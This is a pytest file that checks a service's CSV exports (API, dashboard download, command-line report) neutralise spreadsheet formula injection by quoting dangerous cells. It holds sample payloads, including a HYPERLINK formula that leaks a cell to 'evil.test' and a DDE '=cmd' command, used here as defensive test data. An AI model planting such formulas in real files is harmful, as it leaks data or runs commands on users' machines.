"""No CSV the central writes carries a live formula (OWASP CSV injection): names and codes
that begin like a formula come out behind a single quote, in the API's CSV, the dashboard's
download and ``centralctl report``; counts and rates stay plain numbers."""

from __future__ import annotations

import csv
import html
import io
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
import requests

from sync import csvsafe
from sync.central import roster
from sync.protocol import heartbeat_path

from .conftest import Central, rating


@pytest.fixture
def central(archive_central: Central) -> Central:
    """The data here bear fixed past days: a central that files them (conftest ARCHIVE)."""
    return archive_central


FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+SUM(1)",
    "@x",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "=",
]
HARMLESS = ["Nguyễn Thị Hồng Nhung", "A-1", "", "2025-03-01", "CB001", "1+1", "'=quoted"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_cell_beginning_like_a_formula_is_quoted(text: str) -> None:
    assert csvsafe.safe_text(text) == "'" + text
    assert csvsafe.safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert csvsafe.safe_text(text) == text


@pytest.mark.parametrize("number", [5, -3, 0, -0.5, 2.5, None])
def test_numbers_stay_numbers(number: float | None) -> None:
    assert csvsafe.safe_cell(number) is number


def test_the_csv_rule_is_a_leaf_the_kiosk_can_import() -> None:
    code = "import sys, sync.csvsafe\nprint('\\n'.join(sys.modules))"
    loaded = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout.split()

    ours = {name for name in loaded if name.split(".")[0] in ("sync", "kiosk")}
    assert ours == {"sync", "sync.csvsafe"}


# Officer names, a department name and codes an admin (or a poisoned roster file) put in.
OFFICERS = {"CB001": FORMULAS[0], "CB002": "+SUM(1)", "CB003": "@x", "-CB4": "-2+3"}
DEPARTMENT_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def poisoned(central: Central, tmp_path: Path) -> tuple[Central, str]:
    """Ratings of officers whose names are formulas, at counter -Q1; (central, admin)."""
    roster.add_department(central.db, "CA", DEPARTMENT_NAME)
    path = tmp_path / "officers.csv"
    rows = [
        f'{code},"{name.replace(chr(34), chr(34) * 2)}",,CA,1234' for code, name in OFFICERS.items()
    ]
    path.write_text("code,full_name,title,department,pin\n" + "\n".join(rows) + "\n")
    roster.import_officers(central.db, path, min_pin_digits=4)
    token = central.add_counter("-Q1", "CA", officers=())
    sent = [rating(4, "2025-03-01T03:00:00Z", code, "CA", n) for n, code in enumerate(OFFICERS, 1)]
    assert len(central.push(token, "-Q1", sent).json()["accepted"]) == len(OFFICERS)
    return central, central.add_admin("boss", "correct horse")


def assert_no_live_formula(text: str, by: str) -> None:
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, rows = table[0], table[1:]
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(csvsafe.FORMULA_STARTS), (by, row)
        numbers = {name: cell for name, cell in zip(header, row, strict=True)}
        assert int(numbers["total"]) >= 1 and int(numbers["level_4"]) >= 1
        assert float(numbers["satisfaction_percent"]) == 100.0
    keys = {row[0] for row in rows}
    names = {row[1] for row in rows}
    if by == "officer":
        assert names == {"'" + name for name in OFFICERS.values()}
        assert "'-CB4" in keys
    if by == "department":
        assert names == {"'" + DEPARTMENT_NAME}
    if by == "counter":
        assert keys == {"'-Q1"}


SPAN = {"from": "2025-03-01", "to": "2025-03-31"}


@pytest.mark.parametrize("by", ["officer", "department", "counter"])
def test_the_api_csv_carries_no_live_formula(poisoned: tuple[Central, str], by: str) -> None:
    central, admin = poisoned

    response = central.report(admin, by=by, format="csv", **SPAN)

    assert response.status_code == 200
    assert_no_live_formula(response.content.decode("utf-8"), by)


def test_the_dashboard_csv_downloads_carry_no_live_formula(
    poisoned: tuple[Central, str],
) -> None:
    central, _admin = poisoned
    with requests.Session() as browser:
        browser.post(
            central.url + "/login",
            data={"username": "boss", "password": "correct horse"},
            timeout=60,
        )
        page = browser.get(f"{central.url}/?from={SPAN['from']}&to={SPAN['to']}", timeout=60)
        links = dict(re.findall(r'id="csv-(\w+)" href="([^"]+)"', page.text))
        downloads = {
            by: browser.get(central.url + html.unescape(links[by]), timeout=60)
            for by in ("officer", "department", "counter")
        }

    for by, download in downloads.items():
        assert download.status_code == 200
        assert_no_live_formula(download.content.decode("utf-8"), by)


@pytest.mark.parametrize("by", ["officer", "department", "counter"])
def test_centralctl_csv_carries_no_live_formula(poisoned: tuple[Central, str], by: str) -> None:
    central, _admin = poisoned

    done = central.ctl(
        "report", "--by", by, "--format", "csv", "--from", SPAN["from"], "--to", SPAN["to"]
    )

    assert done.returncode == 0, done.stderr
    assert_no_live_formula(done.stdout, by)


def test_centralctl_counter_list_keeps_what_kiosks_report_in_its_cells(central: Central) -> None:
    token = central.add_counter("Q07")
    beat = {
        "app_version": '=HYPERLINK("http://evil.test","update")',
        "last_error": "-1+2\tsplit\nthe row",
        "kiosk_time": datetime.now(UTC).isoformat(),
    }
    central.http.post(
        central.url + heartbeat_path("Q07"),
        json=beat,
        headers={"Authorization": f"Bearer {token}"},
        timeout=60,
    ).raise_for_status()

    done = central.ctl("counter", "list")

    header, row = done.stdout.strip().split("\n")
    cells = dict(zip(header.split("\t"), row.split("\t"), strict=True))
    assert cells["app_version"] == "'" + beat["app_version"]
    assert "-1+2 split the row" in cells["state"]
